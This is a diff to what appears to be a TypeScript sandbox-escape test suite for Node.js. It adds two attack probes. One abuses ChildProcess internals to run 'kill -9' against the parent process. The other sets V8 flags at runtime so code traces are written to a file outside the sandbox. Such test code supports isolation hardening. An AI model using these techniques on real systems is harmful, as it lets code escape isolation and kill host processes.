@@ -1,10 +1,12 @@
-import { spawn } from 'node:child_process';
+import { ChildProcess, spawn } from 'node:child_process';
 import { createSocket } from 'node:dgram';
 import { Resolver } from 'node:dns/promises';
 import { readdirSync, readFileSync, symlinkSync, writeFileSync, writeSync } from 'node:fs';
 import { connect } from 'node:net';
 import { join } from 'node:path';
 import { setTimeout as sleep } from 'node:timers/promises';
+import { setFlagsFromString } from 'node:v8';
+import { runInThisContext } from 'node:vm';
 import { isMainThread, parentPort } from 'node:worker_threads';
 import type { AttackTarget } from './attack-target.js';
 
@@ -190,6 +192,26 @@ export async function dnsExfiltration({ udpPort, nonce }: AttackTarget): Promise
 
 export async function killParent({ parentPid }: AttackTarget): Promise<void> {
   for (const signal of ['SIGKILL', 'SIGSTOP'] as const) attempt(() => process.kill(parentPid, signal));
+  await sleep(200);
+}
+
+/** Aims at one process of the test: what such a handle signals without a process of its own is anybody's number. */
+export async function internalHandles({ parentPid }: AttackTarget): Promise<void> {
+  attempt(() => {
+    const { _handle: handle } = new ChildProcess() as unknown as { readonly _handle: RawProcess }; // not in Node's types
+    handle.onexit = () => undefined;
+    handle.spawn({ file: '/bin/sh', args: ['sh', '-c', `kill -9 ${String(parentPid)}`], stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }] });
+  });
+  await sleep(300);
+}
+
+export async function v8Flags({ outsideFile }: AttackTarget): Promise<void> {
+  for (const flag of [`redirect-code-traces-to=${outsideFile}`, 'redirect-code-traces', 'print-opt-code', 'allow-natives-syntax']) attempt(() => { setFlagsFromString(`--${flag}`); });
+  attempt(() => {
+    const traced = runInThisContext('(a) => a + 1') as (a: number) => number;
+    const optimize = runInThisContext('(f) => { %PrepareFunctionForOptimization(f); f(1); %OptimizeFunctionOnNextCall(f); f(2); }') as (f: unknown) => void;
+    optimize(traced);
+  });
   await sleep(200);
 }
 
